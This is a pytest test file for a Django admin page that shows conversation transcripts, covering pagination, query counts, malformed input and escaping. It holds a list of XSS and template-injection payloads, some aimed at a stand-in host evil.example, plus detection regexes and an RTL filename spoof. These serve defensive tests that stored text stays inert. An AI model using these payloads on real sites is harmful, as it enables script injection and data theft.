"""The transcript: every message is found, on a page that costs the same anywhere, and nothing in it acts."""

from __future__ import annotations

import html
import re
from uuid import UUID

import pytest
from django.contrib.auth.models import User
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conversations import keys, log, sessions
from conversations.admin import transcript
from conversations.models import Conversation, Message

LIST = "/admin/conversations/conversation/"
PAGE = transcript.PAGE
XSS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onmouseover=`alert(1)",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<form action=//evil.example><input name=p></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "{{7*7}}{% load x %}{{ settings.SECRET_KEY }}",
    '<div x-data x-init="alert(1)" x-html="\'<img>\'" @click=alert(1)>',
    "<div hx-get=//evil.example hx-trigger=load>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "＜script＞alert(1)＜/script＞",
]
pytestmark = pytest.mark.django_db


@pytest.fixture
def staff() -> Client:
    client = Client()
    client.force_login(User.objects.create(username="anna", is_staff=True, is_superuser=True))
    return client


def conversation(*texts: str, **start: object) -> Conversation:
    found, _ = sessions.open(7, **start)  # type: ignore[arg-type]
    for text in texts:
        log.append(found.pk, "user", text)
    return sessions.get(found.pk)


def long_one(length: int) -> Conversation:
    found = conversation()
    log.append_many(found.pk, [{"role": "user", "content": f"message {number}"} for number in range(length)])
    return sessions.get(found.pk)


def page(client: Client, found: Conversation, query: str = "", **headers: str) -> str:
    response = client.get(f"{LIST}{found.pk}/change/?{query}", headers=headers)
    assert response.status_code == 200
    return response.content.decode()


def indexes(text: str) -> list[int]:
    return [int(index) for index in re.findall(r'<li id="m(\d+)"', text)]


def test_the_newest_page_comes_first_and_links_lead_through_all(staff: Client) -> None:
    found = long_one(2 * PAGE + 7)
    text, seen = page(staff, found), []
    while True:
        seen = indexes(text) + seen
        older = re.search(r'rel="prev" href="[^"]*(\?before=\d+)"', text)
        if not older:
            break
        text = page(staff, found, older[1][1:])
    assert seen == list(range(2 * PAGE + 7))
    newer = re.search(r'rel="next" href="[^"]*(\?after=\d+)"', text)
    assert newer
    assert indexes(page(staff, found, newer[1][1:]))[0] == indexes(text)[-1] + 1


def test_a_page_stays_what_it_is_while_people_talk(staff: Client) -> None:
    found = long_one(120)
    before = indexes(page(staff, found, "before=100"))
    log.append(found.pk, "user", "one more")
    assert indexes(page(staff, found, "before=100")) == before


@pytest.fixture(scope="module")
def shared(django_db_setup, django_db_blocker):
    """One long conversation for many examples; removed by its own means."""
    with django_db_blocker.unblock():
        found = long_one(333)
        yield found
        with connection.cursor() as cursor:
            cursor.execute("BEGIN; SET LOCAL parley.erasing = 'on'")
            cursor.execute("DELETE FROM conversations WHERE id = %s", [found.pk])
            cursor.execute("COMMIT")


@settings(max_examples=250, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.sampled_from(["at", "before", "after"]), st.one_of(st.integers(0, 340), st.integers(0, 2**63 - 1)))
def test_any_window_is_whole_and_knows_its_neighbours(shared: Conversation, way: str, index: int) -> None:
    window = transcript.read(shared, **{way: index})
    shown = [bubble.message.message_index for bubble in window.bubbles]
    total = shared.message_count
    assert shown == list(range(shown[0], shown[-1] + 1)) if shown else True
    assert len(shown) <= PAGE
    if way == "at":
        assert (index in shown) == (index < total)
        assert window.missing == (None if index < total else index)
    if way == "before":
        assert not shown or shown[-1] == min(index, total) - 1
    if way == "after":
        assert not shown or shown[0] == index + 1
    if shown:
        assert window.older == (shown[0] if shown[0] > 0 else None)
        assert window.newer == (shown[-1] if shown[-1] < total - 1 else None)


def test_a_page_is_an_index_range_and_few_queries_wherever_it_is(staff: Client) -> None:
    found = long_one(5_000)
    with connection.cursor() as cursor:
        cursor.execute("ANALYZE messages")
    rows = Message.objects.filter(conversation=found, message_index__lt=2500).order_by("-message_index")[:PAGE]
    assert "messages_one_per_index" in rows.explain()
    assert "Sort" not in rows.explain()
    numbers = set()
    for query in ("", "before=2500", "at=3", "after=4000"):
        with CaptureQueriesContext(connection) as queries:
            page(staff, found, query)
        assert not any("COUNT(" in query["sql"] for query in queries)
        numbers.add(len(queries))
    assert max(numbers) <= 5


def test_a_link_leads_to_one_message(staff: Client) -> None:
    found = long_one(300)
    assert 150 in indexes(page(staff, found, "at=150"))
    link = f'href="{LIST}{found.pk}/change/?at=299#m299"'
    assert link in page(staff, found)


@pytest.mark.parametrize("query", ["at=300", "at=9223372036854775807", "at=9999999999999999999"])
def test_a_link_to_a_message_that_is_not_there_says_so(staff: Client, query: str) -> None:
    found = conversation("one")
    assert "There is no message #" in page(staff, found, query)
    assert "здесь нет" in page(staff, found, query, **{"accept-language": "ru"})


@pytest.mark.parametrize("value", ["abc", "-1", "%00", "1.5", "１２", "٣", "1e3", "", "9" * 400, "0x10", "+1"])
@pytest.mark.parametrize("name", ["at", "before", "after"])
def test_a_broken_index_is_no_index(staff: Client, name: str, value: str) -> None:
    assert indexes(page(staff, conversation("one", "two"), f"{name}={value}")) == [0, 1]


@pytest.mark.parametrize(
    "path",
    ["not-a-uuid", "0", "-1", "%00", "00000000-0000-0000-0000-000000000000", "0" * 31, "a" * 5000, "{%7B0%7D}", "🙂"],
)
def test_a_conversation_that_is_not_there_leads_back(staff: Client, path: str) -> None:
    assert staff.get(f"{LIST}{path}/change/").status_code in {302, 404}
    assert staff.get(f"{LIST}{path}/message/0/").status_code in {302, 404}


def test_who_said_what_when_and_with_what_beside_it(staff: Client) -> None:
    found = conversation("well", metadata={"language": "ru"}, title="A talk")
    log.append(found.pk, "assistant", "an answer")
    log.append(found.pk, "assistant", "taking over", author="anna", metadata={"source": {"kind": "desk"}})
    log.append(found.pk, "tool", '{"ok": true}')
    text = html.unescape(page(staff, found))
    assert re.findall(r"<strong><bdi>(.*?)</bdi>", text) == ["person", "agent", "anna", "tool"]
    assert '"kind": "desk"' in text
    assert '"language": "ru"' in text
    assert text.count("<time datetime=") == 4
    assert "A talk" in text
    ru = page(staff, found, **{"accept-language": "ru"})
    assert re.findall(r"<strong><bdi>(.*?)</bdi>", ru) == ["человек", "агент", "anna", "инструмент"]


def test_deleted_messages_stay_in_sight_struck_through(staff: Client) -> None:
    found = conversation("gone", "also gone")
    log.clear(found.pk, by="anna")
    log.append(found.pk, "user", "new start")
    text = page(staff, found)
    assert re.findall(r'class="bubble [^"]*?( gone)?"', text) == [" gone", " gone", ""]
    assert "(2 deleted)" in text


def test_a_long_message_is_folded_and_a_huge_one_is_a_link(staff: Client) -> None:
    huge = "и" * 999_999 + "!"
    found = conversation("short", "line\n" * 40, "w" * 5000, huge)
    text = page(staff, found)
    assert text.count("<details>") == 3
    assert len(text) < 200_000
    assert text.count("/message/3/") == 1
    assert "/message/2/" not in text
    whole = staff.get(f"{LIST}{found.pk}/message/3/")
    assert whole.content.decode() == huge


def test_the_plain_text_of_a_message_cannot_act(staff: Client) -> None:
    found = conversation("<script>alert(1)</script>")
    response = staff.get(f"{LIST}{found.pk}/message/0/")
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert staff.get(f"{LIST}{found.pk}/message/1/").status_code == 404
    assert staff.get(f"{LIST}{found.pk}/message/99999999999999999999/").status_code == 404


def test_what_turns_text_around_is_seen_and_held(staff: Client) -> None:
    found = conversation("pay \u202e001$\u202c now\u200b", title="invoice \u202egpj.exe")
    text = page(staff, found)
    assert "\u202e" not in text
    assert '<span class="unseen">U+202E</span>' in text
    assert 'dir="auto"' in text
    assert "\u202e" not in staff.get(LIST).content.decode()
    assert "invoice ⟨U+202E⟩gpj.exe" in staff.get(LIST).content.decode()
    assert "\u202e" not in staff.get("/admin/search/?extended=1&s=invoice").content.decode()


def test_emoji_and_marks_come_out_as_they_went_in(staff: Client) -> None:
    said = "👨‍👩‍👧‍👦" * 100 + "🇬🇪👍🏽" + "Z" + "\u0351" * 200 + "é" + "e\u0301"
    assert said in page(staff, conversation(said))


@pytest.mark.parametrize("number", range(len(XSS)))
def test_nothing_that_was_written_acts_on_any_page(staff: Client, number: int) -> None:
    """As message, title, channel, author, metadata and key name; on every page that shows them."""
    evil = XSS[number]
    found, _ = sessions.open(7, title=evil[:200], channel=evil[:50], chat_id=1, metadata={evil: evil})
    log.append(found.pk, "user", evil, metadata={evil: [evil]}, external_id=evil)
    log.append(found.pk, "assistant", evil * 200, author=evil)
    key, _ = keys.create(evil[:100], by=evil)
    paths = [
        *("/admin/", LIST, f"{LIST}?channel=" + "x", f"{LIST}{found.pk}/change/", "/admin/conversations/apikey/"),
        *(f"/admin/conversations/apikey/{key.pk}/change/", f"/admin/conversations/apikey/{key.pk}/history/"),
    ]
    for path in paths:
        _assert_inert(staff.get(path).content.decode(), evil)
    for parameters in ({"q": evil}, {"channel": evil}, {"at": evil}):
        _assert_inert(staff.get(LIST, parameters).content.decode(), evil)
    _assert_inert(staff.get("/admin/search/", {"s": evil, "extended": 1}).content.decode(), evil)
    shown = html.unescape(staff.get(f"{LIST}{found.pk}/change/").content.decode())
    assert evil.split()[0] in shown


def _assert_inert(page: str, evil: str) -> None:
    if set(evil) & set("<>\"'"):
        assert evil not in page
    assert "<script>alert" not in page
    assert "srcdoc" not in re.sub(r"&lt;.*?&gt;", "", page)
    assert not re.search(r"<[a-z]+ [^>]*\bon(error|load|mouseover|focus)\s*=", page)
    assert not re.search(
        r"<[a-z]+ [^>]*(href|src|action)\s*=\s*[\"']?\s*(javascript|data:text|//evil)", page, re.IGNORECASE
    )
    assert not re.search(r"<[a-z]+ [^>]*(x-init=\"alert|hx-get=//evil|@click=alert)", page)


def test_the_ids_of_postgresql_are_taken_in_any_spelling(staff: Client) -> None:
    found = conversation("one")
    assert isinstance(found.pk, UUID)
    assert staff.get(f"{LIST}{str(found.pk).upper()}/change/").status_code == 200
